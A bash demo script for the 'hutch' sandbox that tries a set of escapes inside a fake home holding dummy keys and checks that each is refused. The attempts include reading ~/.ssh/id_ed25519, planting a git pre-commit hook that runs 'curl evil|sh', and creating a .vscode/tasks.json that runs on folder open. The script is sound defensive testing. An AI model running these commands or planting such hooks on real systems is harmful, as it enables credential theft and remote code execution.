#!/bin/bash
# A short demonstration of the sandbox at work: what was tried, what happened.
set -uo pipefail

given=${1:-build/src/cli/hutch}
hutch=$(realpath "$given")
base=${XDG_CACHE_HOME:-$HOME/.cache}/hutch-demo
rm -rf "$base"
mkdir -p "$base/home/.ssh" "$base/project"
home=$base/home
ws=$base/project
echo "-----BEGIN OPENSSH PRIVATE KEY----- demo-secret" >"$home/.ssh/id_ed25519"
echo "aws_secret_access_key = demo-secret" >"$home/.aws-credentials-demo"
git -C "$ws" init -q 2>/dev/null

port=$((20000 + RANDOM % 20000))
python3 -m http.server --bind 127.0.0.1 "$port" --directory "$base" >/dev/null 2>&1 &
server=$!
trap 'kill $server 2>/dev/null; rm -rf "$base"' EXIT
for _ in $(seq 50); do
	python3 -c "import socket; socket.create_connection(('127.0.0.1', $port), 0.2)" 2>/dev/null && break
	sleep 0.1
done

green=$'\e[32m' red=$'\e[31m' off=$'\e[0m'
if [ ! -t 1 ] || [ -n "${NO_COLOR:-}" ]; then green='' red='' off=''; fi

# show WHAT EXPECT COMMAND...: EXPECT is "refused" or "allowed"
show() {
	local what=$1 expect=$2 out rc
	shift 2
	out=$(cd "$ws" && HOME=$home "$hutch" run -q -C "$ws" -- "$@" 2>&1)
	rc=$?
	out=$(printf '%s' "$out" | tail -n 1)
	if { [ "$expect" = refused ] && [ $rc -ne 0 ]; } || { [ "$expect" = allowed ] && [ $rc -eq 0 ]; }; then
		printf '%s%-8s%s %-52s -> %s\n' "$green" "$expect" "$off" "$what" "${out:-ok}"
	else
		printf '%sUNEXPECTED%s %-50s -> exit %d: %s\n' "$red" "$off" "$what" "$rc" "$out"
		failed=1
	fi
}

failed=0
echo "hutch demo: the workspace is $ws; HOME is a fake one holding fake keys."
echo
show "read ~/.ssh/id_ed25519" refused sh -c 'cat ~/.ssh/id_ed25519 && test -s ~/.ssh/id_ed25519'
show "write ~/outside.txt (outside the workspace)" refused sh -c 'echo x > ~/outside.txt'
show "write /usr/local/bin/evil" refused sh -c 'echo x > /usr/local/bin/evil'
show "connect to a host service on 127.0.0.1:$port" refused \
	python3 -c "import socket; socket.create_connection(('127.0.0.1', $port), 2)"
show "plant a git hook (.git/hooks/pre-commit)" refused sh -c 'echo "curl evil|sh" > .git/hooks/pre-commit'
show "create .vscode/tasks.json (runs on folder open)" refused sh -c 'mkdir -p .vscode && echo {} > .vscode/tasks.json'
show "write notes.txt inside the workspace" allowed sh -c 'echo "hello from the sandbox" > notes.txt && echo "wrote notes.txt"'
echo
if [ -f "$ws/notes.txt" ]; then
	echo "On the host: $(ls -l "$ws/notes.txt" | awk '{print $1, $3, $NF}') — $(cat "$ws/notes.txt")"
fi
left=$(cd "$ws" && for f in .[!.]* ..?* *; do
	[ -e "$f" ] && [ "$f" != .git ] && [ "$f" != notes.txt ] && echo "$f"
done)
if [ -z "$left" ]; then
	echo "Nothing else was left in the workspace."
else
	echo "${red}Left in the workspace:${off} $(ls -A "$ws")"
	failed=1
fi
echo
# Where the binary is and how to install it: the last lines, what a new user reads last.
echo "hutch is built but not installed: run it as $given (e.g. $given run -- bash)."
sudo='sudo '
[ "$(id -u)" = 0 ] && sudo=
echo "To install: '${sudo}make install' (to /usr/local), or without root 'make install PREFIX=~/.local' (with ~/.local/bin on PATH); then 'hutch' and 'man hutch' work."
exit $failed
